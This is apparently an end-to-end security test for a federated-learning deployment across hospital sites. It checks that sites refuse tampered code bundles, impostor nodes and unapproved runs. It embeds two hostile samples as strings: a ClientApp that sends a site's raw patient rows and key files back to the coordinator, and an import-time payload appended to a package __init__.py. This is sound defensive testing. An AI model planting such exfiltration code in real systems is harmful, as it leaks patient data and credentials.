"""The hospital is the trust anchor, tried for real: one deployment over TLS (SuperNode authentication)
with three honest hospitals and a fourth registered node that lies about its name and has no policy.

Besides the center's own run R (approved by every site with a policy), these runs are tried:
- A, started over 127.0.0.1 (a malicious center): a bundle whose ClientApp sends raw rows and the
  site's key files and leaves a marker file when it executes;
- B, started over 127.0.0.1: the approved code except a payload in `shared/__init__.py`;
- C, bundle A started from 127.0.0.2 (an outsider who can reach the port): the SuperLink refuses it;
- U, the real code with a config no site approved (another epsilon).
Hostile code never runs anywhere at a site (no marker), every site logs `bundle_refused` for A and B,
the center hears only that code, and no site spends budget on anything but R.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import ssl
import subprocess
import sys
from pathlib import Path

import httpx
import pytest
import tomli_w
import yaml

from shared.config import config_from_dict
from shared.privacy.keys import load_public_key
from shared.privacy.roster import roster_from_keys, save_roster
from tests.e2e.deployment_harness import REPO, Deployment

pytestmark = pytest.mark.slow

SITES = {"site_a": 160, "site_b": 120, "site_c": 80, "site_d": 100}
HONEST = ["site_a", "site_b", "site_c"]
NO_REPLY = "no reply (site offline or timed out)"  # written by the center when a busy site answers after the round
OUTSIDER = "127.0.0.2"  # a source address the SuperLink does not treat as local (on loopback, so the test runs anywhere)

HOSTILE_APP = '''"""A hostile ClientApp: sends the site's raw rows and key files to the center."""
import os
import sys
from pathlib import Path

import yaml
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

MARKER = Path({marker!r})
if "clientapp" in " ".join(sys.argv):
    (MARKER / f"a-import-{{os.getpid()}}").write_text(" ".join(sys.argv))


def _loot(context):
    (MARKER / f"a-ran-{{os.getpid()}}").write_text(" ".join(sys.argv))
    site = yaml.safe_load(Path(str(context.node_config["site-config"])).read_text())
    rows = "".join(p.read_text()[:4000] for p in sorted(Path(site["data_dir"]).rglob("*.csv")))
    keys = Path(site["key"]).read_text() + Path(site["auth_key"]).read_text()
    return RecordDict({{"loot": ConfigRecord({{"rows": rows, "keys": keys}})}})


app = ClientApp()


@app.train()
def train(msg, context):
    return Message(_loot(context), reply_to=msg)


@app.evaluate()
def evaluate(msg, context):
    return Message(_loot(context), reply_to=msg)
'''

INIT_PAYLOAD = '''
import os as _os
import sys as _sys

if "clientapp" in " ".join(_sys.argv):  # only where a ClientApp runs: at a site
    open(_os.path.join({marker!r}, f"b-{{_os.getpid()}}"), "w").write(" ".join(_sys.argv))
'''


def _project_copy(dst: Path) -> Path:
    """The Flower app directory as `fedcare server` ships it (pyproject + server/client/shared)."""
    dst.mkdir(parents=True)
    shutil.copy(REPO / "pyproject.toml", dst / "pyproject.toml")
    for package in ("server", "client", "shared"):
        shutil.copytree(REPO / package, dst / package, ignore=shutil.ignore_patterns("__pycache__"))
    return dst


def _fab_of(project: Path) -> bytes:
    from flwr.cli.build import build_fab_from_disk

    return build_fab_from_disk(project)


def _flwr_run(dep: Deployment, flwr_home: Path, project: Path, cfg_raw: dict, name: str) -> int:
    """`flwr run` over the center's own local connection; returns the Flower run id."""
    cfg = config_from_dict(cfg_raw, f"{name}.yaml")
    rc = {"config": cfg.to_json(), "run-dir": str(dep.root / "runs" / name), "run-id": name,
          "cpus-per-site": 1, "resume": False}
    rc_file = dep.root / f"{name}_run_config.toml"
    rc_file.write_text(tomli_w.dumps(rc))
    env = dict(os.environ, FLWR_HOME=str(flwr_home),
               PYTHONPATH=os.pathsep.join([str(REPO), os.environ.get("PYTHONPATH", "")]))
    flwr = str(Path(sys.executable).parent / "flwr")
    out = subprocess.run([flwr, "run", str(project), "fedcare", "--run-config", str(rc_file)], env=env,
                         capture_output=True, text=True, timeout=180)
    found = re.search(r"Successfully started run (\d+)", out.stdout + out.stderr)
    assert found, out.stdout + out.stderr
    return int(found.group(1))


def _control(dep: Deployment, source: str):  # noqa: ANN202 (Flower's ControlHttpClient)
    """Flower's Control API client, its connections made from `source`."""
    from flwr.supercore.control import ControlHttpClient
    from flwr.supercore.interceptors import RuntimeVersionHttpInterceptor

    client = ControlHttpClient(f"https://127.0.0.1:{dep.port}",
                               interceptors=[RuntimeVersionHttpInterceptor(component_name="flwr CLI")])
    ca = ssl.create_default_context(cafile=str(dep.certs.ca_cert))
    client._client = httpx.Client(transport=httpx.HTTPTransport(verify=ca, local_address=source), verify=ca, timeout=30)
    return client


def _call(fn, request) -> tuple[int, str]:  # noqa: ANN001
    try:
        fn(request)
        return 200, ""
    except httpx.HTTPStatusError as err:
        return err.response.status_code, err.response.text


def _start_run_request(fab: bytes, rc: dict):  # noqa: ANN202
    from flwr.common.serde import fab_to_proto, user_config_to_proto
    from flwr.proto.control_pb2 import StartRunRequest
    from flwr.supercore.fab import Fab

    return StartRunRequest(fab=fab_to_proto(Fab(hashlib.sha256(fab).hexdigest(), fab, {})),
                           override_config=user_config_to_proto(rc))


def _register_request(key: Path, name: str):  # noqa: ANN202
    from cryptography.hazmat.primitives import serialization
    from flwr.proto.control_pb2 import RegisterNodeRequest

    public = serialization.load_ssh_public_key(key.with_suffix(".pub").read_bytes())
    pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return RegisterNodeRequest(public_key=pem, name=name)


def _wait_started(dep: Deployment, center_logs: Path, run_id: int) -> None:
    """Until the run's ServerApp pulled its task (submitting the next at once would start several
    ServerApps together, and on a loaded machine Flower expires a claim not pulled within 30 s)."""
    log = center_logs / "superlink.log"
    dep.wait_for(f"the ServerApp of run {run_id}", lambda: f"of run {run_id}" in log.read_text(errors="replace"),
                 timeout_s=240)


@pytest.fixture(scope="module")
def trust(tmp_path_factory):
    from flwr.proto.control_pb2 import ListNodesRequest, ListRunsRequest
    from rich.console import Console

    from fedcare.center import Center, CenterOptions, prepare_run_dir, supernode_keys

    root = tmp_path_factory.mktemp("trust")
    dep = Deployment(root, rounds=1, round_timeout_s=300.0, sites=SITES)
    raw = yaml.safe_load(dep.config_path.read_text())
    raw["federation"]["wait_for_sites_s"] = 900.0  # the runs are submitted one after the other, then the sites start
    dep.config_path.write_text(yaml.safe_dump(raw))
    dep.cfg = config_from_dict(raw, "tiny.yaml")
    marker = root / "markers"
    marker.mkdir()
    facts: dict = {}
    # the center as `fedcare server` runs it, driven here so that its SuperLink outlives every run tried
    opts = CenterOptions(cfg=dep.cfg, run_dir=dep.run_dir, run_id="R", resume=False, certs=dep.certs.root, insecure=False,
                         host="127.0.0.1", port=dep.port)
    prepare_run_dir(opts)
    center_log = open(dep.logs / "center.log", "w")  # noqa: SIM115 - closed below
    center = Center(opts, Console(file=center_log, width=120))
    try:
        roster = root / "roster.yaml"
        save_roster(roster_from_keys({s: load_public_key(dep.keys(s).identity_public) for s in SITES}),
                    roster)
        center.start_superlink()
        center.register_sites(supernode_keys(dep.certs.root, list(SITES)))

        # the outsider: the hostile bundle A and a node key, from a non-local address; the same from 127.0.0.1
        hostile_a = _project_copy(root / "hostile_a")
        (hostile_a / "client" / "app.py").write_text(HOSTILE_APP.format(marker=str(marker)))
        outsider, local = _control(dep, OUTSIDER), _control(dep, "127.0.0.1")
        attacker_key = dep.impostor_key()
        rc = {"config": dep.cfg.to_json(), "run-dir": str(root / "runs" / "C"), "run-id": "C", "cpus-per-site": 1,
              "resume": False}
        facts["outsider"] = {
            "start_run": _call(outsider.StartRun, _start_run_request(_fab_of(hostile_a), rc)),
            "register_node": _call(outsider.RegisterNode, _register_request(attacker_key, "site_e")),
            "list_nodes": _call(outsider.ListNodes, ListNodesRequest()),
            "health": outsider._client.get(f"https://127.0.0.1:{dep.port}/health").status_code,
            "fleet": outsider._client.post(f"https://127.0.0.1:{dep.port}/v1/fleet/pull-messages", content=b"\x00").status_code,
        }
        facts["local_second_site_a"] = _call(local.RegisterNode, _register_request(attacker_key, "site_a"))

        center.submit_run()
        submitted = center.logs / "flower-run.log"
        dep.wait_for("run R to be submitted", lambda: "Successfully started run" in submitted.read_text(errors="replace"),
                     timeout_s=180)
        runs = {"R": int(re.search(r"Successfully started run (\d+)", submitted.read_text(errors="replace")).group(1))}
        _wait_started(dep, center.logs, runs["R"])
        hostile_b = _project_copy(root / "hostile_b")
        with open(hostile_b / "shared" / "__init__.py", "a") as init:
            init.write(INIT_PAYLOAD.format(marker=str(marker)))
        unapproved = json.loads(json.dumps(raw))
        unapproved["privacy"]["target_epsilon"] = 3.0
        for name, project, run_raw in (("A", hostile_a, raw), ("B", hostile_b, raw),
                                       ("U", _project_copy(root / "real"), unapproved)):
            runs[name] = _flwr_run(dep, center.flwr_home, project, run_raw, name)
            _wait_started(dep, center.logs, runs[name])
        facts["runs"] = runs
        for site in HONEST:
            dep.start_client(site, dep.site_yaml(site, roster=roster))
        dep.start_client("site_d", dep.site_yaml("site_d", policy=False, claims="site_a"), "site_d")
        dep.wait_for("runs R, A, B and U to finish",
                     lambda: all((d / "summary.json").is_file() for d in (dep.run_dir, *(root / "runs" / r for r in "ABU"))),
                     timeout_s=900)
        facts["nodes"] = {n.name: n.node_id for n in local.ListNodes(ListNodesRequest()).nodes_info}
        facts["flower_runs"] = set(local.ListRuns(ListRunsRequest()).run_dict)
        yield dep, facts, marker
    finally:
        center.stop()
        center_log.close()
        dep.stop_all()


def _events(dep: Deployment, site: str) -> list[dict]:
    path = dep.state_dir(site) / "security_log.jsonl"
    return [json.loads(line)["event"] for line in path.read_text().splitlines()] if path.is_file() else []


def test_hostile_bundles_never_execute_at_any_site(trust):
    dep, facts, marker = trust
    assert sorted(p.name for p in marker.iterdir()) == []  # neither payload ran, nowhere
    for site in SITES:
        refused = [e for e in _events(dep, site) if e["kind"] == "bundle_refused"]
        for run in ("A", "B"):
            mine = [e for e in refused if e["run_id"] == facts["runs"][run]]
            assert mine, f"{site}: no bundle_refused for run {run}"
            assert all(e["bundle_digest"] != e["installed_digest"] for e in mine)
        only_b = {tuple(e["differences"]) for e in refused if e["run_id"] == facts["runs"]["B"]}
        assert only_b == {("changed: shared/__init__.py",)}  # B differs in one __init__.py only
        only_a = {tuple(e["differences"]) for e in refused if e["run_id"] == facts["runs"]["A"]}
        assert only_a == {("changed: client/app.py",)}
        # the site never ran its own ClientApp for them either: no message of A or B was logged as received
        received = {e.get("run_id") for e in _events(dep, site) if e["kind"] == "received"}
        assert not received & {facts["runs"]["A"], facts["runs"]["B"]}


def test_the_center_hears_only_the_code_and_no_budget_is_spent(trust):
    dep, facts, _ = trust
    for run in ("A", "B"):
        history = json.loads((dep.root / "runs" / run / "metrics.json").read_text())
        reasons = {info.get("reason") for sites in history["rounds"].values() for info in sites.values()}
        text = json.dumps(history)
        assert reasons - {NO_REPLY} == {"bundle_refused"}, reasons  # the center's own note aside, only the code
        row = (dep.root / "data" / "site_a" / "stays.csv").read_text().splitlines()[1]
        assert "BEGIN" not in text and "loot" not in text and row not in text  # no key, no raw row
        summary = json.loads((dep.root / "runs" / run / "summary.json").read_text())
        assert all(info["rounds_trained"] == [] for info in summary["sites"].values())
    for site in SITES:  # the ledgers hold the approved run R only
        assert {e["run_id"] for e in dep.ledger(site)} <= {dep.run_id()}


def test_outsider_cannot_start_a_run_or_register_a_node(trust):
    dep, facts, marker = trust
    outsider = facts["outsider"]
    for call in ("start_run", "register_node", "list_nodes"):
        status, body = outsider[call]
        assert status == 403 and "local only" in body, (call, status, body)
    assert outsider["health"] == 200
    assert outsider["fleet"] != 403  # the Fleet API does face the network (Flower answers the bad request itself)
    assert len(facts["flower_runs"]) == 4  # R, A, B, U: the outsider's run C was never created
    assert not (dep.root / "runs" / "C").exists()


def test_a_second_site_a_registration_is_refused(trust):
    dep, facts, _ = trust
    status, body = facts["local_second_site_a"]  # even over 127.0.0.1
    assert status != 200 and "already registered" in body
    assert facts["nodes"].keys() == set(SITES)


def test_metrics_are_stored_under_the_registered_name_only(trust):
    dep, facts, _ = trust
    history = json.loads((dep.run_dir / "metrics.json").read_text())
    r1 = history["rounds"]["1"]
    count = dep.count_release("site_a")  # the FedAvg weight is the noisy count the ledger released, not the true size
    assert count is not None and r1["site_a"]["train"]["num-examples"] == count["extra"]["released"]
    assert r1["site_d"]["status"] == "failed" and "registered as 'site_d'" in r1["site_d"]["reason"]
    assert set(r1) == set(SITES)  # every record under a registered name; site_d's claim to be site_a was not taken


def test_the_approved_run_trains(trust):
    dep, facts, _ = trust
    summary = json.loads((dep.run_dir / "summary.json").read_text())
    assert summary["complete"], dep.diagnostics()
    for site in HONEST:
        assert summary["sites"][site]["rounds_trained"] == [1]
        assert [e["status"] for e in dep.ledger(site)] == ["trained"]
        assert any(e["kind"] == "policy_approved" for e in _events(dep, site))


def test_a_policy_in_site_yaml_refuses_an_unapproved_run(trust):
    dep, facts, _ = trust
    history = json.loads((dep.root / "runs" / "U" / "metrics.json").read_text())
    for site in HONEST:
        assert history["rounds"]["1"][site]["status"] == "refused"
        assert history["rounds"]["1"][site]["reason"] == "not_approved"
        refusals = [e for e in _events(dep, site) if e["kind"] == "refused" and e["run_id"] == "U"]
        assert refusals and all("not approved" in e["detail"] for e in refusals)


def test_a_site_without_policy_refuses_in_deployment(trust):
    dep, facts, _ = trust
    refused = {e["run_id"]: e["reason"] for e in _events(dep, "site_d") if e["kind"] == "refused"}
    assert refused == {dep.run_id(): "no_policy", "U": "no_policy"}
    assert dep.ledger("site_d") == []
